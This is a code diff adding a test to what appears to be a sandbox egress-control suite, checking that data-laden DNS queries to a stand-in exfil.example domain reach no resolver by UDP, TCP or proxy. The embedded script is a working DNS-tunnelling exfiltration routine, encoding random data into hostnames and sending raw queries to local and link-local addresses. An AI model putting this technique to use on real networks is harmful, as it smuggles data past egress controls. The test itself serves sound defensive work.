@@ -236,6 +236,75 @@ def denied_addresses():
             assert len(canary.heard) >= 2, "the canary hears what gets through"
 
 
+TUNNEL = """
+import base64, os, socket, struct
+heard = 0
+def query(name):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
+    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 16, 1)
+def refused(host):
+    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
+        s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
+        return s.recv(100).startswith(b"HTTP/1.1 403")
+secret = base64.b32encode(os.urandom(40 * 32)).decode().strip("=").lower()
+names = [f"{i}.{secret[i * 20:i * 20 + 20]}.exfil.example" for i in range(100)]
+for i, name in enumerate(names):
+    try:
+        socket.getaddrinfo(name, 80)
+        print("resolved")
+    except OSError:
+        pass
+    for host in HOSTS:
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+            with socket.socket(family, kind) as s:
+                s.settimeout(0.05)
+                try:
+                    s.connect((host, PORT))
+                    s.send(query(name))
+                except OSError:
+                    pass
+print(sum(map(refused, names)))
+"""
+
+
+def dns_tunnel():
+    """a hundred names full of data reach no resolver: not by UDP, not by TCP, not by the proxy, which looks up what is allowed only"""
+    heard = []
+    with contextlib.ExitStack() as stack:
+        udp = stack.enter_context(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
+        udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        udp.bind(("::", 0))
+        udp.settimeout(0.2)
+        port = udp.getsockname()[1]
+        tcp = stack.enter_context(socket.create_server(("::", port), family=socket.AF_INET6, dualstack_ipv6=True))
+        tcp.settimeout(0.2)
+
+        def listen():
+            for each in (udp, tcp):
+                with contextlib.suppress(TimeoutError):
+                    while True:
+                        heard.append(each.recv(4096) if each is udp else each.accept()[0].close())
+
+        hosts = ["127.0.0.1", "::1", "10.0.0.1", "169.254.169.253", *(a.strip("[]") for a in addresses_of_this_machine())]
+        code = TUNNEL.replace("HOSTS", repr(hosts)).replace("PORT", str(port))
+        with server(pool("e", "Egress", ["*.allowed.example"])) as s:
+            workspace = s.open_workspace(pool="e")["id"]
+            done = python(s, workspace, code, timeoutSeconds=110)
+            assert done["stdout"] == "100\n", done
+            listen()
+            assert heard == [], heard
+            seen = s.get(f"/v1/workspaces/{workspace}/egress").json
+            assert [e["decision"] for e in seen["latest"]] == ["not_allowed"] * 100, seen
+        exec(code.split("secret =")[0], scope := {})  # the canary hears the same from outside
+        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
+            with socket.socket(socket.AF_INET, kind) as s:
+                s.connect(("127.0.0.1", port))
+                s.send(scope["query"]("control.exfil.example"))
+        listen()
+        assert len(heard) == 2, heard
+
+
 def allowed_service():
     """a service on the allow-list is reached by urllib as it is, another is not; the claim may narrow the list"""
     with Listener() as service, Listener() as other:
@@ -407,6 +476,6 @@ def packages():
 
 
 if __name__ == "__main__":
-    main("server", [pip_installs, moved_files, npm_installs, one_download, lying_index, says_why, denied_addresses, allowed_service,
+    main("server", [pip_installs, moved_files, npm_installs, one_download, lying_index, says_why, denied_addresses, dns_tunnel, allowed_service,
                     packages, survives_restart, floods,
                     beside_output, held_heads])
